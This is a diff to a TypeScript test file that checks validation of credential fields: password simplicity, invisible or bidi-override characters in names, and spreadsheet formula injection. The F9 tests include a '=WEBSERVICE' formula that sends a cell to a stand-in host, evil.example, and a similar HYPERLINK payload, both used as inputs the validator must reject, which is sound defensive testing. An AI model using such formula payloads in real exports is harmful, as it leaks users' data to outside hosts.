@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest';
+import { checkAccount } from '../../../common/accounts/fields';
 import type { KeyDetails, NewKeyDetails } from '../../../common/keys/access-key';
 import {
   checkDetails,
@@ -10,9 +11,9 @@ import {
   type FieldIssue,
   fieldLimits,
   minimumPasswordLength,
-  tidy,
   tidyCredential,
 } from '../../../common/keys/fields';
+import { showHidden, tidy } from '../../../common/keys/text';
 import { providerOf } from '../../../common/providers';
 
 const now = Date.UTC(2026, 0, 1);
@@ -161,7 +162,7 @@ describe('secret and token', () => {
     expect(secret('F'.repeat(30))).toEqual([]);
     expect(secret(`\ufeff ${'F'.repeat(30)}\r\n`)).toEqual([]);
     expect(secret('F'.repeat(29))).toEqual(['? secret unusual-shape']);
-    expect(secret('=+/"\\,\'!~')).toEqual(['? secret unusual-shape']);
+    expect(secret('/=+"\\,\'!~')).toEqual(['? secret unusual-shape']);
     expect(secret('F'.repeat(256))).toEqual(['? secret unusual-shape']);
     expect(secret('F'.repeat(257))).toEqual(['secret too-long']);
     expect(secret(' ')).toEqual(['secret required']);
@@ -182,13 +183,14 @@ describe('secret and token', () => {
 
 test('a master password has 8 to 1024 characters; their number counts, not their bytes', () => {
   const password = (text: string) => words(checkNewPassword(text));
+  const long = (length: number) => 'wxyz'.padEnd(length, 'x');
   expect(password('')).toEqual(['password required']);
   expect(password('x'.repeat(minimumPasswordLength - 1))).toEqual(['password too-short']);
-  expect(password('x'.repeat(minimumPasswordLength))).toEqual([]);
+  expect(password(long(minimumPasswordLength))).toEqual([]);
   expect(password('👩'.repeat(minimumPasswordLength - 1))).toEqual(['password too-short']);
-  expect(password('👩'.repeat(minimumPasswordLength))).toEqual([]);
-  expect(password('x'.repeat(1024))).toEqual([]);
-  expect(password('x'.repeat(1025))).toEqual(['password too-long']);
+  expect(password(`👩👨👧👦${'👩'.repeat(minimumPasswordLength - 4)}`)).toEqual([]);
+  expect(password(long(1024))).toEqual([]);
+  expect(password(long(1025))).toEqual(['password too-long']);
 });
 
 test('tidying composes text and takes the blanks of copying, nothing else', () => {
@@ -201,4 +203,117 @@ test('checking is quick on hostile text', () => {
   const long = 'a.'.repeat(40_000);
   const result = issues({ ...ebs, name: long, endpoint: `${'a'.repeat(250)}!`, accessKeyId: long, accountId: long });
   expect(result).toEqual(['name too-long', 'accountId too-long', 'endpoint not-an-endpoint', 'accessKeyId too-long']);
+});
+
+describe('F15: a new password', () => {
+  const password = (text: string, least?: number) => words(checkNewPassword(text, least));
+
+  test.each([
+    ['eight blanks', ' '.repeat(8)],
+    ['blanks of several kinds', ' \u00a0\u3000\u2003\t\n\u2028 '],
+    ['signs that can’t be seen', '\u00ad\u200b\u3164\u2800\u00ad\u200b\u3164\u2800'],
+    ['one sign', 'aaaaaaaaaaaa'],
+    ['three signs', 'abcabcabcabcabc'],
+    ['one sign composed in two ways', 'é\u0065\u0301'.repeat(8)],
+    ['one sign and blanks', 'a a a a a a a'],
+  ])('of %s is refused', (_, text) => {
+    expect(password(text)).toEqual(['password too-simple']);
+    expect(password(text, 5)).toEqual(['password too-simple']);
+  });
+
+  test('of four different characters is taken, whatever their script', () => {
+    expect(password('abcdabcd')).toEqual([]);
+    expect(password('春夏秋冬春夏秋冬')).toEqual([]);
+    expect(password('abc def g')).toEqual([]);
+  });
+});
+
+describe('F14: a name', () => {
+  const name = (text: string) => words(errorsOf(checkNewKey({ ...good, name: text }, now)));
+
+  test.each([
+    ['soft hyphen', '\u00ad'],
+    ['combining grapheme joiner', '\u034f'],
+    ['Hangul filler', '\u3164'],
+    ['Hangul choseong filler', '\u115f'],
+    ['half-width filler', '\uffa0'],
+    ['Khmer inherent vowel', '\u17b5'],
+    ['Mongolian vowel separator', '\u180e'],
+    ['line separator', '\u2028'],
+    ['paragraph separator', '\u2029'],
+    ['tag letter', '\u{e0061}'],
+    ['variation selector', '\ufe0f'],
+    ['variation selector of ideographs', '\u{e0100}'],
+    ['zero-width joiner', '\u200d'],
+    ['zero-width non-joiner', '\u200c'],
+    ['invisible plus', '\u2064'],
+    ['blank Braille pattern', '\u2800'],
+    ['interlinear annotation', '\ufff9'],
+    ['musical format sign', '\u{1d173}'],
+    ['half of a pair', '\ud800'],
+    ['noncharacter', '\u{1fffe}'],
+    ['right-to-left override', '\u202e'],
+    ['Arabic letter mark', '\u061c'],
+  ])('with a %s is refused, in every text that is shown', (_, sign) => {
+    expect(name(`pro${sign}d`)).toEqual(['name hidden-characters']);
+    for (const field of ['description', 'accountId', 'identityName'] as const) {
+      expect(words(errorsOf(checkNewKey({ ...good, [field]: `pro${sign}d` }, now)))).toEqual([
+        `${field} hidden-characters`,
+      ]);
+    }
+    const account = { accountId: '1234567890123456', alias: `pro${sign}d` };
+    expect(words(errorsOf(checkAccount(providerOf('alibaba'), account)))).toEqual(['alias hidden-characters']);
+    expect(showHidden(`pro${sign}d`)).toBe('pro\ufffdd');
+  });
+
+  test.each([
+    ['emoji of several parts', '👩‍👩‍👧‍👦 🏴‍☠️ 🏳️‍🌈 🤝🏽 1️⃣ ❤️'],
+    ['Persian', 'کتاب‌ها'],
+    ['Hindi', 'क्‍ष'],
+    ['Sinhala', 'ශ්‍රී'],
+    ['Vietnamese', 'Việt Nam'],
+    ['Chinese', '生产环境 密钥'],
+    ['Thai', 'กุญแจที่สำคัญ'],
+  ])('in %s is taken', (_, text) => {
+    expect(name(text)).toEqual([]);
+    expect(showHidden(text)).toBe(text);
+  });
+
+  test('may have four marks on a letter and no more, in composed form', () => {
+    expect(name('Z\u0323\u0331\u0301\u0308')).toEqual([]);
+    expect(name('e\u0301\u0323\u0331\u0308\u0307')).toEqual([]);
+    expect(name(`Z${'\u0301'.repeat(6)}`)).toEqual(['name combining-marks']);
+    expect(name(`Z${'\u20dd'.repeat(60)}`)).toEqual(['name combining-marks']);
+  });
+});
+
+describe('F9: what a spreadsheet would calculate', () => {
+  const id = (text: string) => words(errorsOf(checkNewKey({ ...good, accessKeyId: text }, now)));
+  const secret = (text: string) => words(errorsOf(checkSecret(providerOf('pingan'), text)));
+
+  test.each([
+    '=WEBSERVICE("https://evil.example/?"&B2)',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\ufeff=1',
+    "'=1",
+    'FAKE;=1',
+  ])('is no AccessKey ID: %j', (text) => {
+    expect(id(text)).toEqual(['accessKeyId formula']);
+  });
+
+  test('is no AccessKey ID in full width either', () => {
+    for (const text of ['＝1', '＋1', '－1', '＠1', '﹦1']) expect(id(text)).toEqual(['accessKeyId not-printable']);
+  });
+
+  test('is no secret and no token, but base64 may begin with a plus', () => {
+    expect(secret('=HYPERLINK("https://evil.example")')).toEqual(['secret formula']);
+    expect(secret("@'http://x'!A1")).toEqual(['secret formula']);
+    expect(words(checkToken('temporary', '=WEBSERVICE("x")'))).toEqual(['token formula']);
+    expect(secret('+FAKE/fake=')).toEqual([]);
+    expect(secret('-FAKE_fake')).toEqual([]);
+  });
 });
